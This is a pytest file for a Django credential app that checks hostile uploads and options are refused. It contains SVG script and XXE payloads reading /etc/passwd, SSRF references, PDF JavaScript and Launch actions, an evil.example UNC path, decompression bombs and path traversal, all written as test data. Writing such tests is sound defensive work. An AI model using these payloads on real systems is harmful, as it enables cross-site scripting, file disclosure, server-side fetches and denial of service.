"""Somebody who may upload, or write options, sends files that run, unpack without end, or have the server fetch."""

import io
import json
import struct
import threading
import zlib
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from conferral import storage
from conferral.issuance import configure
from conferral.issuance.snapshot import page_url
from conferral.models import Credential, CredentialArtifact, CredentialAsset, CredentialType
from tests.corpus import handmade
from tests.faces.conftest import address

SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
SVG = f'<svg {SPACES} width="9" height="9"{{}}>{{}}<path d="M0 0h9v9z"/></svg>'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
ENTITIES = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'


@pytest.fixture
def operator(person, django_user_model):
    client = person("operator", "add_credentialasset")
    django_user_model.objects.filter(pk=client.user.pk).update(is_superuser=True)
    return client


@pytest.fixture
def trap():
    """A server inside the network, which notes who comes."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            server.visits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *about):
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    server.visits = []
    server.url = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def upload(client, name, content):
    """What is said of it; empty when it was taken."""
    sent = {"slug": "hostile", "file": SimpleUploadedFile(name, content), "description": ""}
    response = client.post(reverse("admin:conferral_credentialasset_add"), sent)
    return "" if response.status_code == 302 else str(dict(response.context["adminform"].form.errors))


def files_in_storage():
    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    return {path for path in root.rglob("*") if path.is_file()}


def assert_refused(client, name, content, says=""):
    before = files_in_storage()
    told = upload(client, name, content)
    assert told
    assert says in told
    assert not CredentialAsset.objects.filter(slug="hostile").exists()
    assert files_in_storage() == before


def drawing(inside="", attributes=""):
    return SVG.format(attributes, inside)


RUNNING = {
    "script": drawing("<script>alert(1)</script>"),
    "script of another name": drawing('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    "onload": drawing(attributes=' onload="alert(1)"'),
    "ONLOAD": drawing(attributes=' OnLoad="alert(1)"'),
    "foreign": drawing(f"<foreignObject><body {XHTML}>x</body></foreignObject>"),
    "html": drawing(f'<img {XHTML} alt="x"/>'),
    "refresh": drawing(f'<meta {XHTML} http-equiv="refresh" content="0"/>'),
    "link": drawing('<a x:href="javascript:alert(1)"><path d="M0 0h9"/></a>'),
    "link later": drawing('<a href="#a"><animate attributeName="href" to="javascript:alert(1)"/></a>'),
    "set later": drawing('<set attributeName="onclick" to="alert(1)"/>'),
    "svg within": drawing('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
}
DECLARING = {
    "entities": f"<!DOCTYPE svg [{ENTITIES}]>" + drawing("<text>&b;</text>"),
    "behind a bracket": f'<!DOCTYPE svg SYSTEM "a>b" [{ENTITIES}]>' + drawing("<text>&b;</text>"),
    "a file of the server": '<!DOCTYPE svg PUBLIC "a>" "b" [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    + drawing("<text>&a;</text>"),
    "parameters": '<!DOCTYPE svg SYSTEM "a>b" [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>' + drawing(),
    "attributes": '<!DOCTYPE svg SYSTEM "a>b" [<!ATTLIST path fill CDATA "red">]>' + drawing(),
}


def fetching(url):
    return {
        "image": drawing(f'<image href="{url}/i" width="9" height="9"/>'),
        "xlink": drawing(f'<image x:href="{url}/x" width="9" height="9"/>'),
        "file": drawing('<image href="file:///etc/hostname" width="9" height="9"/>'),
        "relative": drawing('<image href="secret-key" width="9" height="9"/>'),
        "use": drawing(f'<use href="{url}/u#a"/>'),
        "gradient": drawing(f'<linearGradient x:href="{url}/g#a"/>'),
        "filter": drawing(f'<filter id="f"><feImage href="{url}/f"/></filter>'),
        "fill": drawing(f'<path fill="url({url}/p#a)" d="M0 0h9"/>'),
        "style": drawing(f"<path style='fill: url( \"{url}/s#a\")' d='M0 0h9'/>"),
        "sheet": drawing(f"<style>path {{ fill: URL('{url}/c') }}</style>"),
        "import": drawing(f"<style>@import '{url}/m';</style>"),
        "escaped": drawing(f"<style>path {{ fill: \\75rl({url}/e) }}</style>"),
        "set": drawing(f"<style>svg {{ background: image-set('{url}/is' 1x) }}</style>"),
        "cdata": drawing(f"<style><![CDATA[@import '{url}/cd';]]></style>"),
        "font": drawing(f"<style>@font-face {{ font-family: a; src: url({url}/ff) }}</style>"),
        "instruction": f'<?xml-stylesheet href="{url}/pi"?>' + drawing(),
        "document type": f'<!DOCTYPE svg SYSTEM "{url}/d>" [<!ENTITY a SYSTEM "{url}/e">]>' + drawing("&a;"),
        "base": drawing('<use href="#a"/>', attributes=f' xml:base="{url}/"'),
        "html": drawing(f'<img {XHTML} src="{url}/h"/>'),
        "sound": drawing(f'<audio {XHTML} src="{url}/a"/>'),
    }


@pytest.mark.parametrize("content", RUNNING.values(), ids=RUNNING)
def test_a_drawing_that_runs_is_refused(operator, content):
    assert_refused(operator, "hostile.svg", content.encode())


@pytest.mark.parametrize("content", DECLARING.values(), ids=DECLARING)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_drawing_that_declares_is_refused(operator, content, encoding):
    assert_refused(operator, "hostile.svg", content.encode(encoding))


@pytest.mark.parametrize("kind", fetching("http://x.example"))
def test_a_drawing_that_fetches_is_refused_and_nothing_was_fetched(operator, trap, kind):
    assert_refused(operator, "hostile.svg", fetching(trap.url)[kind].encode())
    assert trap.visits == []


def test_a_drawing_that_is_another_kind_of_file_is_refused(operator):
    for content in (b"<html><script>alert(1)</script></html>", b"<svg>not of SVG's namespace</svg>", b"<", b"GIF89a"):
        assert_refused(operator, "hostile.svg", content)
        assert_refused(operator, "hostile.png", content)


def test_what_designers_programs_write_is_taken(operator):
    plain = drawing(
        '<defs><linearGradient id="a"/><clipPath id="c"><path d="M0 0h9"/></clipPath></defs>'
        "<style>.a { fill: url(#a); clip-path: url('#c') }</style>"
        '<path class="a" transform="matrix(1 0 0 1 2 3)" style="fill:rgb(1,2,3);mask:url(#c)" d="M0 0h9"/>'
    )
    head = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x">'
    )
    assert upload(operator, "logo.svg", (head + plain).encode()) == ""


# PDF


def pdf(change):
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(400, 300))
        change(made)
        written = io.BytesIO()
        made.save(written)
    return written.getvalue()


def drawn_elsewhere(**entries):
    """A page of which a part is said to be in another file."""

    def change(made):
        form = Stream(made, b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        for name, value in entries.items():
            form[f"/{name}"] = value
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=made.make_indirect(form)))
        made.pages[0].obj.Contents = Stream(made, b"/X Do")

    return pdf(change)


def on_opening(**action):
    return pdf(lambda made: made.Root.update(Dictionary(OpenAction=Dictionary(**action))))


PDFS = {
    "script": lambda url: on_opening(S=Name.JavaScript, JS="app.alert(1)"),
    "program": lambda url: on_opening(S=Name.Launch, F="cmd.exe"),
    "form": lambda url: on_opening(S=Name.SubmitForm, F=url),
    "data": lambda url: on_opening(S=Name.ImportData, F=url),
    "stream": lambda url: drawn_elsewhere(F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=url)),
    "file": lambda url: drawn_elsewhere(F="/etc/passwd"),
    "reference": lambda url: drawn_elsewhere(Ref=Dictionary(F=url, Page=0)),
}


@pytest.mark.parametrize("kind", PDFS)
def test_a_template_that_runs_or_fetches_is_refused(operator, trap, kind):
    assert_refused(operator, "hostile.pdf", PDFS[kind](f"{trap.url}/{kind}"))
    assert trap.visits == []


def test_what_a_template_does_by_itself_is_not_in_the_certificate(course, operator, stranger, trap):
    """Links that open by themselves, lead into scripts or files, and attachments, are left behind."""

    def change(made):
        link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": [0, 0, 9, 9]}
        made.Root.OpenAction = Dictionary(S=Name.URI, URI=f"{trap.url}/opened")
        made.Root.AA = Dictionary(WC=Dictionary(S=Name.URI, URI=f"{trap.url}/closed"))
        page = made.pages[0].obj
        page.AA = Dictionary(O=Dictionary(S=Name.GoToR, F="\\\\evil.example\\share\\x.pdf", D=Array([0, Name.Fit])))
        page.Annots = Array(
            Dictionary(**link, A=Dictionary(S=Name.URI, URI=uri))
            for uri in ("javascript:alert(1)", "file:///etc/passwd", "\\\\evil.example\\x", "https://good.example/")
        )
        made.attachments["invoice.exe"] = b"MZ hostile"

    assert upload(operator, "hostile.pdf", pdf(change)) == ""
    course.learner("ana")
    course.configure(generators={"certificate": {"generator": "pdf", "options": {"template": "hostile"}}})
    course.run_and_generate()
    credential = Credential.objects.get()
    response = stranger.get(f"{address(credential)}/certificate.pdf")
    with pikepdf.open(io.BytesIO(b"".join(response.streaming_content))) as made:
        assert not {"/OpenAction", "/AA", "/Names"} & set(made.Root.keys())
        assert "/AA" not in made.pages[0].obj
        # Its own link proves the certificate.
        leads = {str(link.A.URI) for link in made.pages[0].obj.Annots} - {page_url(credential.verification_id)}
        assert leads == {"https://good.example/"}
        everything = b"".join(found.unparse(resolved=True) for found in made.objects if not isinstance(found, Stream))
    for hostile in (b"evil.example", b"javascript", b"file:", b"opened", b"MZ hostile", b"invoice"):
        assert hostile not in everything
    assert trap.visits == []
    response.close()


# Bombs


def png(width, height):
    """A picture that says that it is that large, in a few hundred bytes."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")


def jpeg(width, height):
    written = io.BytesIO()
    Image.new("L", (8, 8)).save(written, "JPEG")
    content = bytearray(written.getvalue())
    start = content.index(b"\xff\xc0") + 5
    content[start : start + 4] = struct.pack(">HH", height, width)
    return bytes(content)


BOMBS = {
    "picture": ("bomb.png", lambda: png(60_000, 60_000)),
    "wide": ("bomb.png", lambda: png(2**31 - 1, 1)),
    "photograph": ("bomb.jpg", lambda: jpeg(65_000, 65_000)),
    "PDF": ("bomb.pdf", handmade.bomb),
    "packed twice": ("bomb.pdf", lambda: handmade.bomb(levels=2)),
    "picture in a PDF": ("bomb.pdf", lambda: handmade.with_picture(60_000, 60_000)),
    "copies of copies": (
        "bomb.svg",
        lambda: drawing(
            '<g id="g0"><path d="M0 0h9"/></g>'
            + "".join(f'<g id="g{n + 1}">' + f'<use href="#g{n}"/>' * 10 + "</g>" for n in range(9))
        ).encode(),
    ),
    "deep": ("bomb.svg", lambda: drawing("<g>" * 5000 + "</g>" * 5000).encode()),
    "long": ("bomb.svg", lambda: drawing("<!--" + "x" * 2**20 + "-->").encode()),
    "font": ("bomb.ttf", lambda: b"\0\1\0\0\xff\xff\0\0\0\0\0\0" + b"\xff" * 2**20),
}


@pytest.mark.parametrize("kind", BOMBS)
def test_what_unpacks_without_end_is_refused(operator, kind):
    name, make = BOMBS[kind]
    assert_refused(operator, name, make())


# Options


@pytest.mark.parametrize(
    "options",
    [
        {"template": "{url}/template.pdf"},
        {"template": "file:///etc/passwd"},
        {"template": "../../conferral.sqlite3"},
        {"template": "plain", "font": "{url}/font.ttf"},
        {"template": "plain", "elements": {"seal": {"type": "image", "image": "{url}/i.png", "y": "1in"}}},
        {"template": "plain", "elements": {"seal": {"type": "image", "pdf": "/etc/passwd", "y": "1in"}}},
        {"template": "plain", "fallback_fonts": ["/etc/passwd"]},
    ],
)
def test_no_option_has_the_server_fetch_or_read(issued, operator, trap, options):
    def pointed(value):
        match value:
            case str():
                return value.replace("{url}", trap.url)
            case list():
                return [pointed(each) for each in value]
            case dict():
                return {key: pointed(each) for key, each in value.items()}

    kind = CredentialType.objects.get()
    sent = {
        "name": "Hostile",
        "processor": kind.processor,
        "processor_options": json.dumps(kind.processor_options),
        "generators": json.dumps({"certificate": {"generator": "pdf", "options": pointed(options)}}),
        "printed_date": "issued",
    }
    response = operator.post(reverse("admin:conferral_credentialtype_add"), sent)
    errors = response.context["adminform"].form.errors
    assert list(errors) == ["generators"]
    assert "should match pattern" in str(errors) or "unknown key" in str(errors)
    assert "root:" not in response.content.decode()
    assert trap.visits == []


def test_what_is_printed_and_linked_is_not_fetched(course, template, trap):
    configure.save_asset("plain", "plain.pdf", template)
    elements = {
        "name": {"type": "text", "text": "{name}", "y": "1in", "link": f"{trap.url}/link"},
        "code": {"type": "qr", "text": f"{trap.url}/qr", "y": "2in"},
    }
    options = {"template": "plain", "elements": elements}
    course.learner("ana")
    course.configure(generators={"certificate": {"generator": "pdf", "options": options}})
    course.run_and_generate()
    assert storage.read(CredentialArtifact.objects.get().storage_name).startswith(b"%PDF-")
    assert trap.visits == []
